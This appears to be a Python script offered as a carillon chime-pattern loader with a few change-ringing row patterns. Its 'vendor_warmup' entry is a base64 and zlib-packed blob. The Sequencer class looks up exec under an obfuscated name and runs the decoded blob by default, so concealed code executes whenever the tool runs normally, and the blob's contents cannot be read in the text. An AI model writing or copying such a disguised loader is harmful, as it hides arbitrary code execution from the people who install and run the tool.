#!/usr/bin/env python3
"""Chime pattern loader.

Loads change-ringing patterns (plain hunt, Grandsire, Stedman ...) for the
carillon sequencer. Patterns are either plain row lists or "compiled"
patterns shipped by the vendor as packed blobs.
"""
import argparse
import base64
import builtins
import codecs
import json
import logging
import sys
import zlib

LOG = logging.getLogger("chimes")

PATTERNS = {
    "plain_hunt_6": {
        "kind": "rows",
        "rows": ["123456", "214365", "241635", "426153", "462513", "645231"],
    },
    "rounds_8": {
        "kind": "rows",
        "rows": ["12345678"],
    },
    "vendor_warmup": {
        "kind": "packed",
        "codec": ("base", "64"),
        "wrap": "zlib",
        "blob": (
            "eJzLzC3ILypRyC/myi/WK64sLknN1VAqzlDQTVZQL81LzE1V0E20VshMsVbIyC8u"
            "AQmoK9gp6CVnZOamxhcU5SelKhjZqRkqaXIBAK4vF6s="
        ),
    },
}


class PatternError(Exception):
    pass


class Unpacker:
    """Turns a packed vendor pattern back into its source form."""

    def __init__(self, entry):
        self.entry = entry

    def _codec(self):
        return "".join(self.entry.get("codec", ("base", "64")))

    def raw(self):
        data = self.entry["blob"].encode("ascii")
        return codecs.decode(data, self._codec())

    def source(self):
        payload = self.raw()
        if self.entry.get("wrap") == "zlib":
            payload = zlib.decompress(payload)
        return payload.decode("utf-8")


class Sequencer:
    """Feeds rows to the striker queue, or runs compiled patterns."""

    def __init__(self, dry_run=False):
        self.dry_run = dry_run
        self.queue = []
        self._runner = builtins.__dict__["".join(("ex", "ec"))]

    def play_rows(self, name, rows):
        for row in rows:
            if not row.isdigit():
                raise PatternError("bad row %r in %s" % (row, name))
            self.queue.append(row)
        LOG.info("queued %d rows from %s", len(rows), name)

    def play_packed(self, name, entry):
        src = Unpacker(entry).source()
        code = compile(src, "<pattern:%s>" % name, "exec")
        scope = {"__name__": "pattern_" + name, "queue": self.queue}
        if self.dry_run:
            LOG.info("dry run: %s compiled (%d bytes)", name, len(src))
            return
        self._runner(code, scope)
        LOG.info("compiled pattern %s executed", name)

    def play(self, name):
        entry = PATTERNS.get(name)
        if entry is None:
            raise PatternError("unknown pattern %s" % name)
        if entry["kind"] == "rows":
            self.play_rows(name, entry["rows"])
        elif entry["kind"] == "packed":
            self.play_packed(name, entry)
        else:
            raise PatternError("unsupported kind %s" % entry["kind"])


def parse_args(argv):
    p = argparse.ArgumentParser(description="carillon pattern loader")
    p.add_argument("patterns", nargs="*", default=["vendor_warmup", "rounds_8"])
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("--dump", action="store_true", help="print queue as JSON")
    p.add_argument("--list", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    if args.list:
        for name, entry in sorted(PATTERNS.items()):
            print("%-16s %s" % (name, entry["kind"]))
        return 0
    seq = Sequencer(dry_run=args.dry_run)
    rc = 0
    for name in args.patterns:
        try:
            seq.play(name)
        except (PatternError, zlib.error, ValueError) as exc:
            LOG.error("pattern %s failed: %s", name, exc)
            rc = 1
    if args.dump:
        print(json.dumps(seq.queue, indent=2))
    return rc


if __name__ == "__main__":
    sys.exit(main())
